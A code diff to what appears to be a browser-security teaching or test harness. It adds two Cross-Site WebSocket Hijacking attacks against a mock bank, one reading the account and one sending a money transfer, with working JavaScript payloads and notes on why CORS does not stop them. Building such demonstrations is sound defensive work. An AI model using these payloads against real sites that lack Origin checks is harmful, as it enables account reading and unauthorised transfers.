@@ -2,7 +2,9 @@
 // an async function of `{ bank, probe }` (the bank's base URL for one configuration, and a
 // unique id the bank's ledger records) that returns what the attacker's script ends up
 // holding. `request` describes that same request in the terms of the Fetch standard, for
-// the rule engine that predicts the outcome without a browser.
+// the rule engine that predicts the outcome without a browser. For a WebSocket attack it
+// describes the opening handshake (Fetch §7.1, "WebSocket connection"), and `endpoint` names
+// the message the script sends once the socket is open.
 
 import { TRANSFER_LITERAL, TRANSFER_PATH } from './transfer.js';
 
@@ -19,12 +21,17 @@ export type AttackId =
   | 'no-cors-post'
   | 'form-post'
   | 'link-get'
-  | 'img-get';
+  | 'img-get'
+  | 'websocket-read'
+  | 'websocket-transfer';
 
 /** The bank endpoint an attack aims at. */
 export type Endpoint = 'transfer' | 'account' | 'public';
 
-/** Which endpoint a path under the bank's base belongs to; null for any other path. */
+/** The bank's WebSocket endpoint, under the bank's base for one configuration. */
+export const SOCKET_PATH = '/socket';
+
+/** Which endpoint a path under the bank's base belongs to; null for any other path (the socket's included). */
 export function endpointOfPath(path: string): Endpoint | null {
   if (path === '/transfer' || path.startsWith('/transfer_to/')) return 'transfer';
   if (path === '/account') return 'account';
@@ -34,10 +41,10 @@ export function endpointOfPath(path: string): Endpoint | null {
 
 export interface AttackRequest {
   /** How the script makes the request. */
-  api: 'fetch' | 'xhr' | 'img' | 'window-open' | 'form';
+  api: 'fetch' | 'xhr' | 'img' | 'window-open' | 'form' | 'websocket';
   method: 'GET' | 'POST' | 'PUT';
-  /** Fetch request mode (Fetch §2.2.5). */
-  mode: 'cors' | 'no-cors' | 'navigate';
+  /** Fetch request mode (Fetch §2.2.5); a WebSocket handshake's is "websocket" (Fetch §7.1). */
+  mode: 'cors' | 'no-cors' | 'navigate' | 'websocket';
   /** Fetch credentials mode; XHR maps withCredentials to `include`, else `same-origin`. */
   credentials: 'omit' | 'same-origin' | 'include';
   /** The request's Content-Type, if it has a body. */
@@ -46,6 +53,7 @@ export interface AttackRequest {
   extraHeaders: readonly string[];
   /** Fetch request destination, as `Sec-Fetch-Dest` reports it. */
   destination: 'empty' | 'image' | 'document';
+  /** What the bank does for it; for a WebSocket, the type of the message sent on the open socket. */
   endpoint: Endpoint;
   /** The path the request goes to, under the bank's base for one configuration. */
   path: string;
@@ -60,6 +68,21 @@ export interface Attack {
 }
 
 const transferBody = TRANSFER_LITERAL;
+/** The transfer as a WebSocket message: the same fields, with the message's type first. */
+const transferMessage = `{ type: 'transfer', ${TRANSFER_LITERAL.slice(2)}`;
+
+/** The code of a WebSocket attack that sends `message` once the socket is open. */
+function socketCode(message: string): string {
+  return `async ({ bank, probe }) => {
+  // No preflight, no CORS check: the handshake is a GET that carries the victim's cookies.
+  const socket = new WebSocket(bank.replace(/^http/, 'ws') + '${SOCKET_PATH}?probe=' + probe);
+  socket.onopen = () => socket.send(JSON.stringify(${message}));
+  // The bank's first message — or the close, if the bank refused the handshake.
+  const answer = await new Promise((done) => { socket.onmessage = socket.onclose = done; });
+  socket.close();
+  return answer;
+}`;
+}
 
 export const attacks: readonly Attack[] = [
   {
@@ -289,6 +312,28 @@ export const attacks: readonly Attack[] = [
   await new Promise((done) => { img.onload = img.onerror = done; });
   return img;
 }`,
+  },
+  {
+    id: 'websocket-read',
+    title: 'Read the account over a WebSocket',
+    whatGoesWrong:
+      'Cross-Site WebSocket Hijacking: the handshake carries the cookies and no CORS check applies, so the script reads whatever the socket says — unless the server checks Origin. No CORS setting changes it.',
+    request: {
+      api: 'websocket', method: 'GET', mode: 'websocket', credentials: 'include',
+      contentType: null, extraHeaders: [], destination: 'empty', endpoint: 'account', path: SOCKET_PATH,
+    },
+    code: socketCode(`{ type: 'account' }`),
+  },
+  {
+    id: 'websocket-transfer',
+    title: 'Send a transfer over a WebSocket',
+    whatGoesWrong:
+      'A message on a hijacked socket moves money: only the server (Origin at the handshake, a token in the message) or the cookie rules stop it, never CORS.',
+    request: {
+      api: 'websocket', method: 'GET', mode: 'websocket', credentials: 'include',
+      contentType: null, extraHeaders: [], destination: 'empty', endpoint: 'transfer', path: SOCKET_PATH,
+    },
+    code: socketCode(transferMessage),
   },
 ];
 
